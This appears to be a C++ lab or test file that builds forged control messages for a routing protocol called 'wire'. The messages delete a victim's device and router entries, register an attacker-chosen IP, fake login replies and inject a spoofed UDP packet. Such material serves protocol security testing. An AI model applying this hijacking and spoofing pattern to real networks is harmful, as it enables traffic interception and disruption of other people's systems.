#include "lab/attack/open_messages.h"

#include "lab/wire/wire_bodies.h"
#include "lab/wire/wire_kinds.h"

namespace {

using namespace wire_sub;

constexpr uint8_t kHeartbeatRequest = 1, kHeartbeatReply = 2, kRequest = 3, kReply = 4, kPacket = 5;
constexpr uint16_t kFirstSeq = 200;
constexpr uint32_t kStrangerIp = Ip(192, 168, 15, 200);

WireBytes UdpPacket(uint32_t from, uint32_t to) {
    std::string text = kInjectedText;
    WireBytes packet = Hex("4500 0000 0001 4000 4011 0000");
    Put32(packet, from);
    Put32(packet, to);
    Put16(packet, 7777);
    Put16(packet, 7777);
    Put16(packet, static_cast<uint32_t>(8 + text.size()));
    Put16(packet, 0);
    packet.insert(packet.end(), text.begin(), text.end());
    packet[3] = static_cast<uint8_t>(packet.size());
    uint16_t sum = ChecksumOf(packet, 0, 20);
    packet[10] = static_cast<uint8_t>(sum >> 8);
    packet[11] = static_cast<uint8_t>(sum);
    return packet;
}

std::vector<WireMessage> Numbered(std::vector<WireMessage> messages, uint32_t src, uint32_t dst) {
    uint16_t seq = kFirstSeq;
    for (WireMessage& message : messages) {
        message.seq = seq++;
        message.dst = dst;
        message.src = message.IsPacket() && src == kWireCentral ? 0 : src;
    }
    return messages;
}

}  // namespace

std::vector<WireMessage> MessagesToEdge(const Victims& who) {
    WireDevice stolen{.ip = kStrangerIp};
    return Numbered(
        {
            {.type = kRequest,
             .sub = kDelDevice,
             .body = EncodeWire(WireDeviceDel{who.other, {{who.other_ip}}})},
            {.type = kRequest, .sub = kDelRouter, .body = EncodeWire(WireIdentifier{who.other})},
            {.type = kRequest,
             .sub = kAddDevice,
             .body = EncodeWire(WireDeviceAdd{who.other, {stolen}})},
            {.type = kRequest, .sub = kPeerHeartbeat, .body = EncodeWire(WireTick{})},
            {.type = kHeartbeatReply, .sub = kHeartbeat, .body = EncodeWire(WireTick{})},
            {.type = kReply, .sub = kLogin, .body = EncodeWire(WireLoginReply{0, who.other})},
            {.type = kReply, .sub = kLogin, .body = EncodeWire(WireLoginReply{1002, who.edge})},
            {.type = kPacket, .body = UdpPacket(who.other_ip, who.edge_ip)},
        },
        kWireCentral, who.edge);
}

std::vector<WireMessage> MessagesToCentralRouter(const Victims& who) {
    return Numbered(
        {
            {.type = kRequest,
             .sub = kDelDevice,
             .body = EncodeWire(WireDeviceDel{who.edge, {{who.edge_ip}}})},
            {.type = kRequest,
             .sub = kAddDevice,
             .body = EncodeWire(WireDeviceAdd{who.edge, {WireDevice{.ip = kStrangerIp}}})},
            {.type = kHeartbeatRequest, .sub = kHeartbeat, .body = EncodeWire(WireTick{})},
            {.type = kRequest, .sub = kGetRouter},
            {.type = kRequest, .sub = kGetDevice, .body = EncodeWire(WireIdentifier{who.other})},
            {.type = kReply, .sub = kDelRouter},
            {.type = kPacket, .body = UdpPacket(who.edge_ip, who.other_ip)},
            {.type = kRequest, .sub = kLogout},
        },
        who.edge, kWireCentral);
}
